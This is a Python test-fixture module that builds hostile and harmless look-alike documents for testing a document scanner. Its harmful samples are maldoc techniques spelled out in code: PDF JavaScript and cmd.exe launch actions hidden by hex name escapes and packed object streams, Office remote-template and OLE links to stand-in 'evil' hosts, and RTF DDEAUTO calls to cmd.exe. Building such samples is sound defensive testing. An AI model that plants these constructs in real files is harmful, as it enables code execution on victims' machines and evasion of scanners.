"""Documents whose harm is spelled otherwise, packed, or somewhere else, and good ones that look alike (T11). All are
made here; docs/decisions/0029-documents.md says what four libraries thought of them."""

from __future__ import annotations

import zlib

from tests.hostile.documents import OLE, TYPES, zipped

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
VBA = "http://schemas.microsoft.com/office/2006/relationships/"
ALERT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"
WORDS = b"BT /F1 12 Tf 20 100 Td (Yama na doroge) Tj ET"


def stream(content: bytes, more: bytes = b"", *, flate: bool = True) -> bytes:
    body = zlib.compress(content) if flate else content
    said = b" /Filter /FlateDecode" if flate else b""
    return b"<< /Length %d%s%s >>\nstream\n%s\nendstream" % (len(body), said, more, body)


def pdf(action: bytes = b"", *objects: bytes, trailer: bytes = b"", eol: bytes = b"\n") -> bytes:
    """A page of words; `action` stands in the catalog, `objects` are 5, 6, …"""
    opening = b" /OpenAction " + action if action else b""
    catalog = b"<< /Type /Catalog /Pages 2 0 R" + opening + b" >>"
    made, places = b"%PDF-1.7" + eol, []
    for number, one in enumerate((catalog, PAGES, PAGE, stream(WORDS), *objects), 1):
        places.append(len(made))
        made += b"%d 0 obj%s%s%sendobj%s" % (number, eol, one, eol, eol)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, trailer, len(made))
    return made + b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, table) + end


def with_packed(holder: bytes, trailer: bytes = b"", eol: bytes = b"\n") -> bytes:
    """A page that begins object 9, which stands in the object stream 5: found by the stream of references 6."""
    opens = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>"
    made, rows = b"%PDF-1.7" + eol, [b"\0" * 7]
    for number, one in enumerate((opens, PAGES, PAGE, stream(WORDS), holder), 1):
        rows.append(b"\1" + len(made).to_bytes(4, "big") + b"\0\0")
        made += b"%d 0 obj%s%s%sendobj%s" % (number, eol, one, eol, eol)
    rows += [b"\1" + len(made).to_bytes(4, "big") + b"\0\0", b"\0" * 7, b"\0" * 7, b"\2\0\0\0\5\0\0"]
    said = b" /Type /XRef /W [1 4 2] /Size 10 /Root 1 0 R" + trailer
    return made + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (stream(b"".join(rows), said), len(made))


def packed(inner: bytes, more: bytes = b"", *, flate: bool = True) -> bytes:
    """An object stream with one object of number 9."""
    return stream(b"9 0 " + inner, b" /Type /ObjStm /N 1 /First 4" + more, flate=flate)


def relations(*given: tuple[str, str, bool], head: str = "") -> bytes:
    """(type, target, outside)"""
    rows = ""
    for number, (kind, target, outside) in enumerate(given):
        named, mode = kind if ":" in kind else RELS + kind, ' TargetMode="External"' if outside else ""
        rows += f'<Relationship Id="r{number}" Type="{named}" Target="{target}"{mode}/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'{head}<Relationships xmlns="{space}">{rows}</Relationships>'.encode()


def letter(*given: tuple[str, str, bool], of: str = "word/_rels/document.xml.rels", **more: bytes) -> bytes:
    named = {name.replace("__", "/").replace("_", "."): content for name, content in more.items()}
    return zipped({TYPES: b"<Types/>", "word/document.xml": b"<w/>", of: relations(*given), **named})


def raw_relations(content: bytes) -> bytes:
    return zipped({TYPES: b"<Types/>", "word/document.xml": b"<w/>", "word/_rels/settings.xml.rels": content})


TEMPLATE = "attachedTemplate"
OF_SETTINGS = "word/_rels/settings.xml.rels"
COMMENT = b"<!-- " + b"-" * 2000 + b" -->"
SCRIPT = b"<html><script>location='//e'</script></html>"

HARM: dict[str, bytes] = {
    "plain.pdf": pdf(ALERT),
    "one letter.pdf": pdf(ALERT.replace(b"/JavaScript", b"/J#61vaScript")),
    "every letter.pdf": pdf(ALERT.replace(b"/JavaScript", b"/" + b"".join(b"#%02x" % one for one in b"JavaScript"))),
    "capital digits.pdf": pdf(ALERT.replace(b"/JavaScript", b"/#4A#61#76#61Script")),
    "launch.pdf": pdf(b"<< /S /L#61unch /F (cmd.exe) >>"),
    "rich media.pdf": pdf(b"", b"<< /Type /Annot /Subtype /RichMedia >>"),
    "embedded.pdf": pdf(b"", b"<< /Type /Embedded#46ile >>"),
    "packed.pdf": with_packed(packed(ALERT)),
    "packed and spelled.pdf": with_packed(packed(ALERT.replace(b"/JavaScript", b"/Jav#61Script"))),
    "packed launch.pdf": with_packed(packed(b"<< /S /Launch /F (cmd) >>")),
    "packed plainly.pdf": with_packed(packed(ALERT, flate=False)),
    "packed behind a comment.pdf": with_packed(stream(b"% a\n9 0 " + ALERT, b" /Type /ObjStm /N 1 /First 8")),
    "packed without a type.pdf": with_packed(stream(b"9 0 " + ALERT, b" /N 1 /First 4")),
    "packed far behind.pdf": with_packed(packed(b"(" + b"a" * 300_000 + b")" + ALERT)),
    "packed by hex.pdf": with_packed(
        stream((b"9 0 " + ALERT).hex().encode(), b" /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", flate=False)
    ),
    "packed twice.pdf": pdf(
        b"9 0 R",
        stream(zlib.compress(b"9 0 " + ALERT).hex().encode(), b" /Type /ObjStm /Filter [/AHx /Fl]", flate=False),
    ),
    "filter elsewhere.pdf": with_packed(stream(b"z", b" /Type /ObjStm /N 1 /First 4 /Filter 7 0 R", flate=False)),
    "with a predictor.pdf": with_packed(packed(ALERT, b" /DecodeParms << /Predictor 12 /Columns 4 >>")),
    "locked and packed.pdf": with_packed(packed(b"\x81\x9a"), trailer=b" /Encrypt 8 0 R"),
    "carriage returns.pdf": with_packed(packed(ALERT), eol=b"\r"),
    "behind a page.pdf": COMMENT + SCRIPT + pdf(),
    "page behind a comment.pdf": b"<!-- %PDF-1.4 " + COMMENT[4:] + SCRIPT,
    "body only.pdf": b"<body onload=alert(1)>%PDF-1.4",
    "template.docx": letter((TEMPLATE, "https://evil.example/t.dotm", True), of=OF_SETTINGS),
    "template on a share.docx": letter((TEMPLATE, r"\\evil\t.dotm", True), of=OF_SETTINGS),
    "template by file.docx": letter((TEMPLATE, "file://evil/t.dotm", True), of=OF_SETTINGS),
    "template by a long file.docx": letter((TEMPLATE, r"file:///\\evil\t.dotm", True), of=OF_SETTINGS),
    "template elsewhere.docx": letter((TEMPLATE, "http://evil", True), of="word/glossary/_rels/settings.xml.rels"),
    "ole.docx": letter(("oleObject", "embeddings/oleObject1.bin", False)),
    "ole by another name.docx": letter(("oleObject", "media/photo.png", False)),
    "ole from elsewhere.docx": letter(("oleObject", "mhtml:http://evil!x-usc:http://evil", True)),
    "frame.docx": letter(("frame", "http://evil/", True)),
    "subdocument.docx": letter(("subDocument", "http://evil/", True)),
    "remote picture.docx": letter(("image", r"\\evil\a.png", True)),
    "active control.docx": letter(("control", "activeX/activeX1.xml", False)),
    "macros by another name.docx": letter((VBA + "vbaProject", "words.bin", False)),
    "other words.xlsx": letter(
        ("externalLinkPath", "http://evil/book.xlsx", True), of="xl/externalLinks/_rels/externalLink1.xml.rels"
    ),
    "slides.pptx": letter(("oleObject", "../embeddings/oleObject1.bin", False), of="ppt/slides/_rels/slide1.xml.rels"),
    "entities.docx": raw_relations(
        relations((TEMPLATE, "&a;", True), head='<!DOCTYPE a [<!ENTITY a "http://evil/t.dotm">]>')
    ),
    "spelled by codes.docx": raw_relations(relations((TEMPLATE, "&#104;ttp://evil/t.dotm", True))),
    "in two bytes.docx": raw_relations(relations((TEMPLATE, "http://evil/", True)).decode().encode("utf-16")),
    "prefixed.docx": raw_relations(
        relations((TEMPLATE, "http://evil/", True))
        .replace(b"xmlns=", b"xmlns:r=")
        .replace(b"<R", b"<r:R")
        .replace(b"</R", b"</r:R")
    ),
    "not to be read.docx": raw_relations(b"<Relationships><Relationship"),
    "much to read.docx": raw_relations(relations() + b" " * (1 << 21)),
    "template.rtf": rb"{\rtf1{\*\template http://evil/t.dotm}Words}",
    "template behind a line.rtf": b"{\\rtf1{\\*\n\\template\nhttp://evil/t.dotm}Words}",
    "template on a share.rtf": rb"{\rtf1{\*\template \\\\evil\\t.dotm}Words}",
    "template by codes.rtf": rb"{\rtf1{\*\template \u-65432?\u-65420?\'74p://evil/}Words}",
    "object.rtf": rb"{\rtf1{\object\objemb{\*\objdata 0105}}}",
    "linked object.rtf": rb"{\rtf1{\object\objautlink\objupdate{\*\objclass Word.Document.8}}}",
    "html object.rtf": rb"{\rtf1{\object\objhtml }}",
    "control.rtf": rb"{\rtf1{\object\objocx }}",
    "dde.rtf": rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }}}",
    "page behind a comment.txt": COMMENT + SCRIPT,
    "page behind words.txt": b"Words. " * 500 + SCRIPT,
    "page in two bytes.txt": (COMMENT + SCRIPT).decode().encode("utf-16"),
    "equation.doc": OLE + "Equation Native".encode("utf-16-le"),
    "locked.doc": OLE + "EncryptedPackage".encode("utf-16-le"),
}

FINE: dict[str, bytes] = {
    "words.pdf": pdf(),
    "carriage returns.pdf": pdf(eol=b"\r"),
    "packed words.pdf": pdf(b"", packed(b"<< /Title (Yama) >>")),
    "packed as Word does.pdf": pdf(
        b"",
        packed(b"<< /Title (Yama) >>"),
        stream(b"\x01" * 40, b" /Type /XRef /W [1 2 1] /DecodeParms << /Columns 4 /Predictor 12 >>"),
    ),
    "locked against changes.pdf": pdf(trailer=b" /Encrypt 8 0 R"),
    "letters by hex.pdf": pdf(b"", stream(WORDS.hex().encode() + b">", b" /Filter /ASCIIHexDecode", flate=False)),
    "goes to a page.pdf": pdf(b"[3 0 R /Fit]"),
    "a link.pdf": pdf(b"", b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://gosuslugi.ru) >> >>"),
    "damaged stream.pdf": pdf(b"", stream(WORDS)[:-20] + b"endstream"),
    "a picture.pdf": pdf(b"", stream(bytes(range(256)) * 4000, b" /Subtype /Image /Width 1000 /Height 1024")),
    "words.docx": letter(("styles", "styles.xml", False)),
    "a link.docx": letter(("hyperlink", "https://gosuslugi.ru", True)),
    "own template.docx": letter((TEMPLATE, r"file:///C:\Users\a\Normal.dotm", True), of=OF_SETTINGS),
    "template by name.docx": letter((TEMPLATE, "Normal.dotm", True), of=OF_SETTINGS),
    "a chart.docx": letter(
        ("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", False), of="word/charts/_rels/chart1.xml.rels"
    ),
    "own picture.docx": letter(("image", "media/image1.png", False)),
    "another book.xlsx": letter(
        ("externalLinkPath", "Book2.xlsx", True), of="xl/externalLinks/_rels/externalLink1.xml.rels"
    ),
    "words.rtf": rb"{\rtf1\ansi Words}",
    "own template.rtf": rb"{\rtf1{\*\template C:\\Users\\a\\Normal.dotm}Words}",
    "a link.rtf": rb'{\rtf1{\field{\*\fldinst HYPERLINK "https://gosuslugi.ru"}}}',
    "words.txt": "Яма <у дома>, 5 < 6".encode(),
    "words in two bytes.txt": "Яма у дома".encode("utf-16"),
    "words.doc": OLE + "WordDocument".encode("utf-16-le"),
}
